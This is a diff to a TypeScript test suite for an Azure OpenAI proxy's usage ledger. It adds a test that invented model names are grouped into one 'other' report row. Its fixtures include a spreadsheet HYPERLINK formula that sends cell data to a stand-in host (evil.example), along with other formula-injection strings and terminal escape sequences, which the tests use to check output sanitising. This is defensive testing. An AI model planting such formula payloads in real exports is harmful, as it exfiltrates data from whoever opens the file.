@@ -248,9 +248,9 @@ describe("budgets and the SQLite ledger (state.path)", () => {
   });
 });
 
-describe("names a client chose (any_model) in the report", () => {
-  // the environment-only config sends any model to the deployment of the same name, so a
-  // client writes the model column; Azure's 404 for it is still a call in the ledger
+describe("odd model names in the report", () => {
+  // a model name in `deployments` is free text; Azure's 404 for its deployment is still a call
+  // in the ledger. A name a client makes up (any_model) is only kept once Azure served it.
   const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';
   const ESCAPED = "red\u001b[31mX\u009b2J";
   let proxy: RunningProxy;
@@ -258,7 +258,7 @@ describe("names a client chose (any_model) in the report", () => {
   beforeAll(async () => {
     const path = join(dir, "chosen.db");
     file = configFile({
-      upstreams: [{ name: "east", endpoint: sim.url, api_key: sim.key, api_version: "2024-10-21", deployments: { "gpt-4o": "gpt-4o" }, any_model: true }],
+      upstreams: [{ name: "east", endpoint: sim.url, api_key: sim.key, api_version: "2024-10-21", deployments: { "gpt-4o": "gpt-4o", [FORMULA]: "nowhere", "-2+3": "nowhere", "@SUM(1)": "nowhere", [ESCAPED]: "nowhere" }, any_model: true }],
       keys: [
         { name: "ops", key: ADMIN, admin: true },
         { name: "team", key: TEAM },
@@ -290,5 +290,20 @@ describe("names a client chose (any_model) in the report", () => {
     expect(out.code).toBe(0);
     expect(out.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
     expect(out.stdout).toContain("red\\u001b[31mX\\u009b2J");
+  });
+
+  test("models a client makes up (any_model) that Azure does not serve are one 'other' row, not a row each", async () => {
+    const made = Array.from({ length: 30 }, () => `made-up-${crypto.randomUUID()}`);
+    for (const model of made) {
+      const response = await chat(proxy, TEAM, "made up", { model });
+      expect(response.status).toBe(404);
+      await response.arrayBuffer();
+    }
+    const body = (await (await report(proxy, "?by=model")).json()) as { data: Array<{ model: string; requests: number }>; unpriced: string[] };
+    expect(body.data.filter((d) => d.model.startsWith("made-up-"))).toEqual([]);
+    expect(body.data.find((d) => d.model === "other")?.requests).toBe(30);
+    // one Azure did serve keeps its name, for its price
+    await usageOf(await chat(proxy, TEAM, "served", { model: "gpt-4.1" }));
+    expect(((await (await report(proxy, "?by=model")).json()) as { data: Array<{ model: string }> }).data.map((d) => d.model)).toContain("gpt-4.1");
   });
 });
